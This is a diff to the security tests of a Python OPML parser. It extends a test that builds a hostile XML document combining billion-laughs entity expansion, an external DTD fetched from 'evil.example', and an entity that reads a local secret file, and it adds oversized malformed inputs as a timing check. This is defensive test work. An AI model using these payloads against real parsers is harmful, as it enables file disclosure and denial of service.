@@ -142,7 +142,7 @@ def test_entities_neither_unfold_nor_open_a_file(tmp_path: Path) -> None:
     secret = tmp_path / "secret.txt"
     secret.write_text("the secret")
     pieces = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
-    text = f"""<!DOCTYPE opml [<!ENTITY e0 "lollollol">{pieces}
+    text = f"""<!-- <a --><!DOCTYPE opml [<!ENTITY e0 "lollollol">{pieces}
         <!ENTITY % outside SYSTEM "https://evil.example/x.dtd"> %outside;
         <!ENTITY s SYSTEM "{secret.as_uri()}">]>
         <opml xmlns:xi="http://www.w3.org/2001/XInclude"><head><title>&s;&e11;</title>
@@ -167,6 +167,8 @@ def test_thousands_of_outlines_and_deep_folders_are_read_in_time() -> None:
     assert deep.sources == ()
     crowded = " ".join(f'a{n}="x"' for n in range(50_000))
     read(f'<outline {crowded} xmlUrl="https://a.example/"/>')
+    for heap in ("<!DOCTYPE a [", "<!--", "&", "<outline ", '<outline a="', "<a:b"):
+        read(heap * 100_000)
     assert time.monotonic() - begun < 20
 
 
